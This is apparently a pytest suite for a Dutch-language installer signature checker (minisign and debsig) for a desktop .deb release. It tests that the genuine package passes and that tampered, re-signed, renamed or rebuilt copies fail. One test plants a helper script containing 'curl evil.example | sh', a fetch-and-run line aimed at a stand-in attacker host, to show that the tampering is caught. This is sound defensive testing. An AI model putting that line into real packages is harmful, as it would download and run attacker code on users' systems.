"""installer/verify_package.sh, the admin's check before installing: the genuine release
passes with one Dutch line; every kind of tampered copy fails with a Dutch line and a
nonzero exit."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from debtools import (
    DEB_NAME,
    SIGN,
    VERIFY,
    VERSION,
    Keys,
    ar_members,
    build_deb,
    make_bundle,
    needs_tools,
    run,
    verify,
    write_ar,
)

pytestmark = needs_tools


def one_line(done: subprocess.CompletedProcess[str]) -> str:
    text = (done.stdout + done.stderr).strip()
    assert text.count("\n") == 0, text
    assert "Traceback" not in text and "line " not in text, text
    return text


def test_the_genuine_release_passes(release: Path, keys: Keys) -> None:
    done = verify(release / DEB_NAME)  # the key beside the package is found by itself
    assert done.returncode == 0, done.stderr
    line = one_line(done)
    assert line.startswith(f"Handtekening klopt: jw-desktop {VERSION} voor linux-x86_64, "
                           "ondertekend door de uitgeverssleutel ")
    # the key id printed is minisign's own (the one in the key's comment line)
    key_id = keys.minisign_public.read_text().splitlines()[0].split()[-1]
    assert f"uitgeverssleutel {key_id} (" in line
    assert "debsig" not in line


def test_the_genuine_release_passes_with_its_gpg_key(release: Path, keys: Keys) -> None:
    done = verify("--gpg-keyring", release / "jw-desktop-uitgever.gpg", release / DEB_NAME,
                  keys.minisign_public)
    assert done.returncode == 0, done.stderr
    assert f"en met de GPG-sleutel {keys.gpg_id} (debsig)" in one_line(done)


def test_the_installed_debsig_policy_is_used(release_copy: Path, keys: Keys,
                                            tmp_path: Path) -> None:
    """The admin installs the release's debsig/ tree (cp -r debsig/* /); from then on the
    script checks the .deb's own signature without --gpg-keyring."""
    machine = tmp_path / "machine"
    shutil.copytree(release_copy / "debsig", machine)
    env = dict(os.environ, DEBSIG_ROOT=str(machine))
    deb = release_copy / DEB_NAME
    done = run(["bash", VERIFY, deb], env=env)
    assert done.returncode == 0, done.stderr
    assert f"GPG-sleutel {keys.gpg_id} (debsig)" in one_line(done)
    members = ar_members(deb)  # the debsig signature removed, the .minisig still right
    write_ar(deb, [m for m in members if m[0] != "_gpgorigin"])
    assert run([sys.executable, SIGN, deb, "--minisign-key", keys.minisign_secret,
                "--version", VERSION, "--platform", "linux-x86_64"]).returncode == 0
    assert verify(deb).returncode == 0  # no policy here: minisign alone is checked
    done = run(["bash", VERIFY, deb], env=env)
    assert done.returncode == 1 and "debsig-handtekening" in one_line(done)


def test_missing_signature_or_key(release_copy: Path, tmp_path: Path) -> None:
    deb = release_copy / DEB_NAME
    (release_copy / (DEB_NAME + ".minisig")).unlink()
    done = verify(deb)
    assert done.returncode == 1
    assert "Er is geen handtekening" in one_line(done)
    alone = tmp_path / "alone"
    alone.mkdir()
    shutil.copy(deb, alone / DEB_NAME)
    done = verify(alone / DEB_NAME)
    assert done.returncode == 2 and "geen sleutel van de uitgever" in one_line(done)
    done = verify(tmp_path / "nope.deb")
    assert done.returncode == 2 and "bestaat niet" in one_line(done)


def flip_byte(path: Path, at: int) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 0x01
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("where", ["data", "last byte"])
def test_one_flipped_byte_fails(where: str, release_copy: Path) -> None:
    deb = release_copy / DEB_NAME
    size = deb.stat().st_size
    flip_byte(deb, size // 2 if where == "data" else size - 1)
    done = verify(deb)
    assert done.returncode == 1
    assert "De handtekening klopt NIET" in one_line(done)
    debsig = verify("--gpg-keyring", release_copy / "jw-desktop-uitgever.gpg", deb)
    assert debsig.returncode == 1


def test_debsig_alone_catches_a_flipped_byte(release_copy: Path, keys: Keys,
                                             tmp_path: Path) -> None:
    """A tampered package re-signed with minisign by an attacker who stole nothing but
    replaced the release's minisign key too: the publisher's GPG key still refuses it."""
    deb = release_copy / DEB_NAME
    members = ar_members(deb)
    name, body = members[2]
    members[2] = (name, body[:-1] + bytes([body[-1] ^ 1]))
    write_ar(deb, members)
    attacker = tmp_path / "attacker"
    attacker.mkdir()
    assert run(["minisign", "-G", "-W", "-p", attacker / "a.pub", "-s",
                attacker / "a.key"]).returncode == 0
    assert run([sys.executable, SIGN, deb, "--minisign-key", attacker / "a.key", "--version",
                VERSION, "--platform", "linux-x86_64"]).returncode == 0
    assert verify(deb, attacker / "a.pub").returncode == 0  # minisign alone: the wrong key
    done = verify("--gpg-keyring", release_copy / "jw-desktop-uitgever.gpg", deb,
                  attacker / "a.pub")
    assert done.returncode == 1
    assert "debsig-handtekening" in one_line(done) and keys.gpg_id in done.stderr


def test_a_package_rebuilt_with_an_extra_file_fails(release_copy: Path,
                                                    tmp_path: Path) -> None:
    """The attacker adds a file to data.tar and keeps the old signatures (the .minisig and
    the _gpgorigin member)."""
    deb = release_copy / DEB_NAME
    members = dict(ar_members(deb))
    data = tmp_path / "data.tar.xz"
    data.write_bytes(members["data.tar.xz"])
    unpacked = tmp_path / "unpacked"
    with tarfile.open(data) as tar:
        tar.extractall(unpacked, filter="tar")
    extra = unpacked / "usr/bin/jw-helper"
    extra.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    rebuilt = tmp_path / "rebuilt.tar.xz"
    with tarfile.open(rebuilt, "w:xz") as tar:
        tar.add(unpacked, arcname=".")
    members["data.tar.xz"] = rebuilt.read_bytes()
    write_ar(deb, list(members.items()))
    assert "./usr/bin/jw-helper" in run(["dpkg-deb", "-c", deb]).stdout  # dpkg would take it
    done = verify(deb)
    assert done.returncode == 1 and "klopt NIET" in one_line(done)
    debsig = run(["debsig-verify", "--policies-dir",
                  release_copy / "debsig/etc/debsig/policies", "--keyrings-dir",
                  release_copy / "debsig/usr/share/debsig/keyrings", deb])
    assert debsig.returncode != 0


def test_a_package_rebuilt_by_dpkg_deb_with_an_extra_file_fails(
        release_copy: Path, tmp_path: Path) -> None:
    bundle = make_bundle(tmp_path / "bundle", {"_internal/extra.py": "print('extra')\n"})
    out = tmp_path / "out"
    assert build_deb(bundle, out).returncode == 0
    shutil.copy(out / DEB_NAME, release_copy / DEB_NAME)  # the release's .minisig stays
    done = verify(release_copy / DEB_NAME)
    assert done.returncode == 1 and "klopt NIET" in one_line(done)
    unsigned = verify("--gpg-keyring", release_copy / "jw-desktop-uitgever.gpg",
                      release_copy / DEB_NAME, release_copy / "jw-desktop-uitgever.pub")
    assert unsigned.returncode == 1
    # the rebuilt package has no debsig signature at all: debsig-verify refuses it too
    debsig = run(["debsig-verify", "--policies-dir",
                  release_copy / "debsig/etc/debsig/policies", "--keyrings-dir",
                  release_copy / "debsig/usr/share/debsig/keyrings", release_copy / DEB_NAME])
    assert debsig.returncode != 0


def test_the_signature_of_another_file_fails(release_copy: Path, keys: Keys) -> None:
    other = release_copy / "jw-desktop-0.1.0-setup.exe"
    other.write_bytes(b"MZ another release file")
    assert run([sys.executable, SIGN, other, "--minisign-key", keys.minisign_secret, "--version",
                VERSION, "--platform", "windows-x86_64"]).returncode == 0
    shutil.copy(release_copy / (other.name + ".minisig"),
                release_copy / (DEB_NAME + ".minisig"))
    done = verify(release_copy / DEB_NAME)
    assert done.returncode == 1 and "klopt NIET" in one_line(done)


def test_a_genuine_file_under_another_name_fails(release_copy: Path) -> None:
    """An older genuine package renamed as the new one (with its own signature) is
    caught by the signed file name."""
    renamed = release_copy / "jw-desktop_0.2.0_amd64.deb"
    (release_copy / DEB_NAME).rename(renamed)
    (release_copy / (DEB_NAME + ".minisig")).rename(renamed.with_name(renamed.name +
                                                                     ".minisig"))
    done = verify(renamed)
    assert done.returncode == 1
    assert f"hoort bij een ander bestand ({DEB_NAME})" in one_line(done)


def test_a_signature_by_another_key_fails(release_copy: Path, other_keys: Keys) -> None:
    deb = release_copy / DEB_NAME
    assert run([sys.executable, SIGN, deb, "--minisign-key", other_keys.minisign_secret,
                "--version", VERSION, "--platform", "linux-x86_64"]).returncode == 0
    done = verify(deb)  # against the publisher's key beside it
    assert done.returncode == 1 and "klopt NIET" in one_line(done)


@pytest.mark.parametrize("edit", [("versie=0.1.0", "versie=9.9.9"),
                                  ("platform=linux-x86_64", "platform=windows-x86_64")])
def test_an_edited_trusted_comment_fails(edit: tuple[str, str], release_copy: Path) -> None:
    sig = release_copy / (DEB_NAME + ".minisig")
    text = sig.read_text()
    assert edit[0] in text
    sig.write_text(text.replace(edit[0], edit[1]))
    done = verify(release_copy / DEB_NAME)
    assert done.returncode == 1 and "klopt NIET" in one_line(done)


def test_a_wrong_key_file_or_option_is_one_dutch_line(release: Path, tmp_path: Path) -> None:
    junk = tmp_path / "junk.pub"
    junk.write_text("dit is geen sleutel\n")
    done = verify(release / DEB_NAME, junk)
    assert done.returncode == 2 and "geen minisign-sleutel" in one_line(done)
    done = verify("--gpg-keyring", junk, release / DEB_NAME)
    assert done.returncode == 2 and "geen GPG-sleutel" in one_line(done)
    done = verify("--onbekend", release / DEB_NAME)
    assert done.returncode == 2 and "Onbekende optie" in one_line(done)
